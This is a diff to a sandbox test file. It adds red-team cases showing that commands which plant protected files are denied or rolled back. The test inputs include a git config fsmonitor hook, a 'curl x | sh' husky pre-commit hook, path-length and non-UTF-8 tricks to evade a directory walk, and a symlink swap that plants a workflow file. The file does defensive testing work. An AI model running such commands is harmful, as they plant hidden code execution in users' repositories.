@@ -3,6 +3,7 @@
  * in issue 23 (findings 3 and 6): each attack first lands where there is no sandbox, then leaves
  * the host's protected paths byte for byte as they were.
  */
+import { execFileSync } from 'node:child_process';
 import fs from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
@@ -28,8 +29,9 @@ beforeEach(async () => {
   await fs.writeFile(path.join(work, '.vscode', 'settings.json'), ORIGINAL);
 });
 
-afterEach(async () => {
-  await fs.rm(work, { recursive: true, force: true });
+afterEach(() => {
+  // GNU rm walks by descriptor: a path over PATH_MAX (an attack below) is no obstacle to it.
+  execFileSync('rm', ['-rf', work]);
 });
 
 const run = (mode: Sandbox | null, command: string) =>
@@ -159,6 +161,56 @@ describe('a link on the way to a protected path, left by an earlier call', () =>
     expect(error.message).toContain('.github');
     expect(await fs.readlink(path.join(work, '.github'))).toBe('gh');
     expect(await workflow()).toBe('on: push\n');
+  });
+});
+
+describe("a red team's attacks on the walk and the restore (2026-12-07)", () => {
+  it('the directory made a git directory: its HEAD is removed and the call denied', async () => {
+    const error = errorOf(
+      await run(
+        sandbox,
+        'mkdir -p objects refs/heads && echo "ref: refs/heads/main" > HEAD && printf "[core]\\n\\tfsmonitor = \\"echo PWNED\\"\\n" > config',
+      ),
+    );
+    expect(error.code).toBe(ErrorCode.Denied);
+    expect(error.message).toContain('HEAD');
+    expect(await exists('HEAD')).toBe(false);
+  });
+
+  it.each([
+    ['a name that is not UTF-8', 'd=$(printf "a\\377"); mkdir "$d" && echo x > "$d/f"'],
+    [
+      'a path over PATH_MAX',
+      'mkdir t && for i in $(seq 1 25); do mkdir n && mv t n/$(printf "x%.0s" $(seq 200)) && mv n t; done',
+    ],
+  ])(
+    'the walk cannot reach %s: what it found is put back, and the call fails',
+    async (_what, beyond) => {
+      const error = errorOf(
+        await run(sandbox, `${beyond} && mkdir .husky && echo "curl x | sh" > .husky/pre-commit`),
+      );
+      expect(error.code).toBe(ErrorCode.Config);
+      expect(error.message).toContain('.husky');
+      expect(await exists('.husky')).toBe(false);
+    },
+  );
+
+  it("a folder holding a protected link cannot be swapped for a link to lead the link's restore elsewhere", async () => {
+    await fs.mkdir(path.join(work, 'a'));
+    await fs.mkdir(path.join(work, 'gh', 'workflows'), { recursive: true });
+    await fs.writeFile(path.join(work, 'gh', 'workflows', 'ci.yml'), 'on: push\n');
+    await fs.symlink('../gh', path.join(work, 'a', '.github'));
+    const result = ok(
+      await run(
+        sandbox,
+        'mv a a_old && mkdir -p p/q/z p/q/gh/workflows && echo EVIL > p/q/gh/workflows/evil.yml && ln -s p/q/z a',
+      ),
+    );
+    expect(result.exitCode).not.toBe(0);
+    expect(result.stderr).toMatch(/busy/i);
+    expect((await fs.lstat(path.join(work, 'a'))).isDirectory()).toBe(true);
+    expect(await fs.readlink(path.join(work, 'a', '.github'))).toBe('../gh');
+    expect(await fs.readdir(path.join(work, 'a', '.github', 'workflows'))).toEqual(['ci.yml']);
   });
 });
 
